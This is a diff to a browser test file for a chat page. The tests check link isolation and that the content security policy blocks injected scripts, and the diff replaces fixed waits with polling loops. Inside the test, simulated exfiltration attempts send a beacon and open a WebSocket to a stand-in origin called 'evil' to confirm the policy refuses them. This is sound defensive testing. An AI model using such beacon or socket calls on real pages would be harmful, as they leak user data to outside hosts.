@@ -118,7 +118,7 @@ test('a link that is pressed opens apart, and knows nothing of where it was', as
   const pages = [];
   chat.context.on('page', (page) => pages.push(page));
   for (const link of (await chat.page.locator('.md a[href^="https:"]').all()).slice(0, 8)) await link.dispatchEvent('click');
-  await chat.page.waitForTimeout(1000);
+  for (let waits = 0; waits < 100 && (pages.length < 4 || referrers.length === 0); waits += 1) await chat.page.waitForTimeout(100);
   assert.ok(pages.length > 3, `${pages.length} pages`);
   for (const page of pages) assert.ok(await page.evaluate(() => window.opener === null));
   assert.deepEqual([...new Set(referrers)], ['none']);
@@ -175,7 +175,8 @@ test('what the server says when it refuses is text', async () => {
 test('the policy would stop a script even if one got into the page', async () => {
   const { chatUrl } = await openEchoChat({ model: 'echo-fast' });
   const chat = await openChat(browser, chatUrl);
-  const blocked = await chat.page.evaluate(async (evil) => {
+  const directives = ['img-src', 'frame-src', 'style-src-elem', 'form-action', 'connect-src', 'require-trusted-types-for', 'trusted-types'];
+  const blocked = await chat.page.evaluate(async ({ evil, wanted }) => {
     const seen = [];
     const refused = [];
     document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
@@ -209,14 +210,17 @@ test('the policy would stop a script even if one got into the page', async () =>
     navigator.sendBeacon(`${evil}/beacon`, 'x');
     attempt('socket', () => new WebSocket(evil.replace('http', 'ws')));
     attempt('worker', () => new Worker('data:text/javascript,1'));
-    await new Promise((resolve) => setTimeout(resolve, 300));
+    const pause = () => new Promise((resolve) => setTimeout(resolve, 100));
+    for (let waits = 0; waits < 100 && !wanted.every((directive) => seen.includes(directive)); waits += 1) await pause();
+    // And then for what should not come.
+    for (let waits = 0; waits < 3; waits += 1) await pause();
     return { seen, refused, pwned: window.pwned ?? null };
-  }, stranger.origin);
+  }, { evil: stranger.origin, wanted: directives });
   assert.equal(blocked.pwned, null);
   for (const name of ['insertAdjacentHTML', 'innerHTML', 'write', 'timer', 'policy', 'handler']) {
     assert.ok(blocked.refused.some((refused) => refused.startsWith(name)), `${name}: ${blocked.refused}`);
   }
-  for (const directive of ['img-src', 'frame-src', 'style-src-elem', 'form-action', 'connect-src', 'require-trusted-types-for', 'trusted-types']) {
+  for (const directive of directives) {
     assert.ok(blocked.seen.includes(directive), `${directive}: ${blocked.seen}`);
   }
   // The browser may open a connection for a form before it asks the policy; it says nothing on it.
